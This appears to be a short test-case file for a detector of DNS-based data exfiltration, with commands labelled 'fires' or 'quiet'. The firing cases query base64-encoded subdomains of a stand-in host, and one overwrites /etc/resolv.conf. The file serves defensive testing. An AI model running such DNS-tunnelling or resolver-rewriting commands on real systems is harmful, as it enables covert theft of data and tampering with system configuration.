#: fires
python3 /usr/local/bin/ask.py dGhpcyBpcyBhIGxvbmcgdGV4dCB0aGF0IGNhcnJpZXMgZGF0YSBvdXQ.dGhpcyBpcyBhIGxvbmcgdGV4dCB0aGF0IGNhcnJpZXMgZGF0YSBvdXQ.x.example
#: fires -- by a socket that is connected
python3 /usr/local/bin/ask.py dGhpcyBpcyBhIGxvbmcgdGV4dCB0aGF0IGNhcnJpZXMgZGF0YSBvdXQ.dGhpcyBpcyBhIGxvbmcgdGV4dCB0aGF0IGNhcnJpZXMgZGF0YSBvdXQ.x.example connected
#: fires -- by the resolver of the system, which sends several questions at once
printf 'nameserver 203.0.113.9\noptions timeout:1 attempts:1\n' > /etc/resolv.conf
getent ahosts dGhpcyBpcyBhIGxvbmcgdGV4dCB0aGF0IGNhcnJpZXMgZGF0YSBvdXQ.dGhpcyBpcyBhIGxvbmcgdGV4dCB0aGF0IGNhcnJpZXMgZGF0YSBvdXQ.x.example || true
#: quiet
python3 /usr/local/bin/ask.py internal-k8s-prod-web-0123456789-1234567890.eu-central-1.elb.amazonaws.com
python3 /usr/local/bin/ask.py deb.debian.org
